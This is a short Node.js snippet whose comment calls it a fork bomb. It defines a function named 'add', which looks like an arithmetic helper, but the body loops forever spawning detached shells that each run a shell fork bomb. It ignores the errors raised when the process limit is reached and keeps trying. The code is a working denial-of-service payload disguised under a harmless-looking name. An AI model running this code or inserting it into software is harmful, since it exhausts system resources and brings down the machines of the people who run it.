// Fork bomb: Node cannot fork, so it starts a shell fork bomb and keeps spawning children.
const { spawn } = require('child_process');

var add = function (a, b) {
    for (;;) {
        try {
            spawn('/bin/sh', ['-c', 'b() { b | b & }; b'], { detached: true, stdio: 'ignore' });
        } catch (error) {
            // EAGAIN: the pids limit; try again.
        }
    }
};
